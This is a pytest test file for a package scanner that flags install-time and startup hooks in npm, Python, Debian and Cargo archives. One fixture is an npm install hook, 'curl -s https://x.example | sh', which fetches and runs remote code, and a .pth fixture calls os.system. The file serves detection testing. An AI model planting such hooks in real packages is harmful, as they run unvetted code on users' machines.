"""What a package has run when it is installed, or later, without being asked to."""

import json
import stat
import tarfile

import pytest
from archived import ids, paths, report_on
from packed import ELF, ar, debian, linked, tarred, zipped

from binsafe.archives import hooks


def npm(scripts: object, name: str = "package/package.json") -> bytes:
    return tarred({name: json.dumps({"name": "x", "scripts": scripts}).encode(), "package/bin/tool": ELF})


@pytest.mark.parametrize("hook", ["preinstall", "install", "postinstall"])
def test_what_npm_runs_at_an_install_is_told(hook: str):
    report = report_on(npm({hook: "curl -s https://x.example | sh"}))
    assert (ids(report), paths(report)) == ({"install-hook"}, ["package/bin/tool"])
    [finding] = report.findings
    assert finding.detail == f"package/package.json has npm run at its {hook}: 'curl -s https://x.example | sh'."
    assert (report.analysed, report.verdict.level) == (True, "caution")


@pytest.mark.parametrize(
    "scripts", [{"test": "x", "prepare": "x"}, {}, None, [], {"install": ""}, {"install": 5}, {"Postinstall": "x"}]
)
def test_what_npm_runs_only_when_it_is_asked_to_is_not(scripts: object):
    assert ids(report_on(npm(scripts))) == set()


def test_a_package_that_another_brings_along_is_installed_with_it():
    hooked = {"postinstall": "x"}
    for place in ("package/node_modules/a/package.json", "package/node_modules/@a/b/node_modules/c/package.json"):
        assert ids(report_on(npm(hooked, place))) == {"install-hook"}
    assert ids(report_on(npm(hooked, "package/test/fixtures/package.json"))) == set()


@pytest.mark.parametrize("text", [b"[" * 100_000, b'{"scripts": ', b'{"version": ' + b"9" * 5000 + b"}"])
def test_what_cannot_be_read_of_a_package_is_said(text: bytes):
    [finding] = report_on(tarred({"package/package.json": text, "package/tool": ELF})).findings
    assert (finding.id, "cannot be read" in finding.detail) == ("install-hook", True)


def test_a_package_of_many_megabytes_is_not_read():
    text = json.dumps({"scripts": {"install": "x"}, "x": "x" * 5 * 1024**2}).encode()
    [finding] = report_on(tarred({"package/package.json": text, "package/tool": ELF}, "w")).findings
    assert (finding.id, "cannot be read" in finding.detail) == ("install-hook", True)


@pytest.mark.parametrize("name", ["x.app/package.json", "package/Package.JSON", "./package.json"])
def test_npm_does_not_mind_what_a_packages_folder_is_called(name: str):
    assert "install-hook" in ids(report_on(npm({"install": "x"}, name)))


def test_npm_builds_what_has_a_recipe_for_it_and_no_script():
    [finding] = report_on(tarred({"package/binding.gyp": b"{}", "package/tool": ELF})).findings
    assert (finding.id, "unless its package.json" in finding.detail) == ("install-hook", True)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("x.pth", b"/somewhere\nimport os; os.system('x')\n"),
        ("x-1.data/purelib/x.pth", b"import\tx"),
        ("usr/lib/python3/dist-packages/x.pth", b"import x"),
        ("x.pth", b"\xef\xbb\xbfimport x"),
        ("x.pth", b"# x\x0cimport x"),
        ("X.PTH", b"import x"),
        ("x.start", b"# x\n\n x.y:z\n"),
        ("sitecustomize.py", b"print()"),
        ("sitecustomize.pyc", b"x"),
        ("usercustomize/__init__.py", b""),
        ("sitecustomize.cpython-313-x86_64-linux-gnu.so", ELF),
    ],
)
def test_what_python_runs_whenever_it_starts_is_told(name: str, text: bytes):
    assert "install-hook" in ids(report_on(zipped({name: text, "x/tool": ELF})))


def test_a_link_that_python_unpacks_as_a_file_may_be_a_hook():
    modes = {"x.pth": stat.S_IFLNK | 0o777}
    assert "install-hook" in ids(report_on(zipped({"x.pth": b"import os", "x/tool": ELF}, modes=modes)))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("x.pth", b"/somewhere\n#import x\n"),
        ("x.start", b"#x:y\nimport x\nx: y\n"),
        ("model/x.pth", b"import x"),
        ("x/sitecustomize.py", b""),
    ],
)
def test_what_python_does_not_run_by_itself_is_not(name: str, text: bytes):
    assert "install-hook" not in ids(report_on(zipped({name: text, "x/tool": ELF})))


def test_a_program_that_is_called_like_a_hook_is_looked_at():
    assert paths(report_on(zipped({"package.json": ELF, "x.pth": ELF}))) == ["package.json", "x.pth"]


def test_scripts_that_only_their_names_show_are_said_not_to_be_looked_at():
    report = report_on(zipped({"tool": ELF, "a.py": b"x", "b.PS1": b"x", "c.js": b"x", "README": b"x"}))
    assert (ids(report), report.findings[0].detail, report.analysed) == ({"scripts"}, "3: a.py; b.PS1; c.js", True)


def packaged(control: dict[str, bytes], member: str = "control.tar.gz") -> bytes:
    return ar({"debian-binary": b"2.0\n", member: tarred(control), "data.tar.xz": tarred({"./bin/x": ELF}, "w:xz")})


@pytest.mark.parametrize("script", ["preinst", "postinst", "prerm", "postrm", "config"])
def test_what_dpkg_runs_of_a_package_is_told(script: str):
    [finding, _] = report_on(packaged({"./control": b"Package: x\n", f"./{script}": b"#!/bin/sh\n"})).findings
    assert finding.detail == f"{script} is run by dpkg, as root, when it is installed or removed."
    assert finding.id == "install-hook"


def test_a_maintainers_script_may_be_a_program():
    report = report_on(packaged({"postinst": ELF}, "control.tar"))
    assert (ids(report), paths(report)) == ({"install-hook"}, ["postinst", "bin/x"])


@pytest.mark.parametrize("name", ["x-1.0/pyproject.toml", "x-1.0/Cargo.toml", "x-1.0/build.rs", "x-1.0/setup.py"])
@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE])
def test_a_link_to_what_is_run_is_told(name: str, kind: bytes):
    assert "install-hook" in ids(report_on(linked(name, "x", {"x": ELF}, kind)))


@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE])
def test_dpkg_runs_links_too(kind: bytes):
    control = linked("postinst", "x", {"x": ELF}, kind)
    assert "install-hook" in ids(report_on(ar({"debian-binary": b"2.0\n", "control.tar": control})))


def test_a_folder_that_is_called_like_a_hook_is_none():
    assert "install-hook" not in ids(report_on(linked("setup.py", "", {"x": ELF}, tarfile.DIRTYPE)))


def test_files_that_a_package_installs_are_no_scripts_of_its_maintainer():
    assert ids(report_on(debian({"postinst": b"#!/bin/sh\n", "./config": b"x", "x": ELF}))) == {"scripts"}


@pytest.mark.parametrize(
    ("name", "text", "told"),
    [
        ("x-1.0/setup.py", b"", "is run by pip"),
        ("setup.py", b"", "is run by pip"),
        ("x-1.0/pyproject.toml", b'[build-system]\nbuild-backend = "own"', "has pip build it with 'own'"),
        ("x-1.0/pyproject.toml", b"[tool.setuptools]", "has pip build it with 'setuptools.build_meta:__legacy__'"),
        ("x-1.0/pyproject.toml", b"[", "cannot be read"),
        ("x-1.0/build.rs", b"", "is run by cargo"),
        ("x-1.0/Cargo.toml", b'[package]\nbuild = "src/made.rs"', "has cargo run when it is built: 'src/made.rs'"),
        ("x-1.0/Cargo.toml", b'[project]\nbuild = "made.rs"', "has cargo run when it is built: 'made.rs'"),
        ("x-1.0/Cargo.toml", b"[lib]\nproc-macro = true", "has the compiler run its macros"),
        ("x-1.0/Cargo.toml", b'[lib]\ncrate-type = ["proc-macro"]', "has the compiler run its macros"),
    ],
)
def test_what_is_run_when_sources_are_built_is_told(name: str, text: bytes, told: str):
    [finding] = [one for one in report_on(tarred({name: text, "x": ELF})).findings if one.id == "install-hook"]
    assert finding.detail.startswith(f"{name} {told}")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("x-1.0/pyproject.toml", b"[build-system]\nbuild-backend = 5"),
        ("x-1.0/Cargo.toml", b"[package]\nbuild = false"),
        ("x-1.0/Cargo.toml", b"package = 5\nlib = 'proc-macro'"),
        ("x-1.0/Cargo.toml", b"[lib]\ncrate-type = 'proc-macro'"),
        ("x-1.0/test/setup.py", b""),
    ],
)
def test_what_is_not_run_when_sources_are_built_is_not(name: str, text: bytes):
    assert "install-hook" not in ids(report_on(tarred({name: text, "x": ELF})))


@pytest.mark.parametrize(("end", "told"), [("whl", False), ("WHL", True)])
def test_nothing_of_a_wheel_is_built_and_pip_takes_large_letters_for_sources(end: str, told: bool):
    report = report_on(zipped({"x/setup.py": b"", "x/tool": ELF}), f"x-1-py3-none-any.{end}")
    assert ("install-hook" in ids(report)) is told


@pytest.mark.parametrize(
    ("text", "read"),
    [
        (b"a" + b".a" * 5_000 + b" = 1", False),
        (b"a" + b""" . "a b" . "\\"" . 'c d'""" * 30 + b" = 1", False),
        (b"[a]\n  " + (b"a." * 62 + b'"' + b"q" * 300 + b'".') * 20 + b"a = 1", False),
        (b"x = {b = 1, " + b"a." * 5_000 + b"a = 1}", False),
        (b"[[" + b"a." * 5_000 + b"a]]", False),
        (b"a.b-c.d = 1\ne = [" + b'"x==1.2.3", ' * 5_000 + b"]", True),
        (b"#" * 600_000, False),
    ],
)
def test_a_description_that_its_reader_would_fill_memory_with_is_not_read(text: bytes, read: bool):
    """Of a name of 100,000 parts, which 300 bytes of an archive unpack to, it took gigabytes."""
    (told,) = hooks.told("pyproject.toml", "x.tgz", text)
    assert ("cannot be read" in told) != read
